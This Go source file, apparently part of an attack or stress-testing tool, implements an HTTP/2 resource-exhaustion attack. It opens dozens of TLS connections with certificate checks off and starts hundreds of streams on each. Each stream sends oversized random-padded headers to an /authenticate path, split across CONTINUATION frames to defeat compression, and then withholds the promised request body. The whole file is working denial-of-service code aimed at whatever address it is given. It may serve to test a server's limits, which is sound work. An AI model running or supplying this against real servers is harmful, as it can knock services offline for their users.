package attack

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/tls"
	"encoding/hex"
	"io"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	streamConnections = 25
	streamsEach       = 250
	largeHeader       = 30_000 // bytes, over the limit
	smallHeader       = 7_000  // bytes, below the limit
	maxFrame          = 16 << 10
)

// streams opens 25 HTTP/2 connections and 250 streams on each. Every stream has a header of 30 kB and a body that never
// arrives. Another 25 connections do the same with headers of 7 kB. The attacker ignores the responses.
func (a *attacker) streams(ctx context.Context) {
	var both sync.WaitGroup
	for _, size := range []int{largeHeader, smallHeader} {
		both.Go(func() {
			a.repeat(ctx, streamConnections, 5*time.Second, func() error { return a.openStreams(ctx, size) })
		})
	}
	both.Wait()
}

func (a *attacker) openStreams(ctx context.Context, size int) error {
	plain, err := dialer.DialContext(ctx, "tcp", a.Address)
	if err != nil {
		return err
	}
	defer func() { _ = plain.Close() }()
	stop := context.AfterFunc(ctx, func() { _ = plain.Close() })
	defer stop()
	config := &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}
	conn := tls.Client(plain, config)
	if err := conn.HandshakeContext(ctx); err != nil {
		return err
	}
	a.count("connections")
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return err
	}
	framer := http2.NewFramer(conn, conn)
	if err := framer.WriteSettings(); err != nil {
		return err
	}
	for i := range streamsEach {
		if err := writeHeaders(framer, uint32(2*i+1), size); err != nil {
			return err
		}
		a.count("streams")
		time.Sleep(5 * time.Millisecond)
	}
	_, _ = io.Copy(io.Discard, conn) // until the server closes the connection
	return nil
}

// writeHeaders begins a request in several frames. Each header field has a new value, so header compression does not
// shorten the request.
func writeHeaders(framer *http2.Framer, stream uint32, size int) error {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, field := range []hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: "x"},
		{Name: ":path", Value: "/authenticate"},
		{Name: "content-type", Value: "application/json"},
		{Name: "content-length", Value: "1000"},
		{Name: "a", Value: strings.Repeat("x", size-32) + randomToken()[:32], Sensitive: true},
	} {
		if err := encoder.WriteField(field); err != nil {
			return err
		}
	}
	first := block.Next(maxFrame)
	err := framer.WriteHeaders(http2.HeadersFrameParam{
		StreamID:      stream,
		BlockFragment: first,
		EndHeaders:    block.Len() == 0,
	})
	for err == nil && block.Len() > 0 {
		part := block.Next(maxFrame)
		err = framer.WriteContinuation(stream, block.Len() == 0, part)
	}
	return err
}

// randomToken returns a text that looks like an opaque token.
func randomToken() string {
	var token [32]byte
	_, _ = rand.Read(token[:]) // never fails
	return hex.EncodeToString(token[:])
}
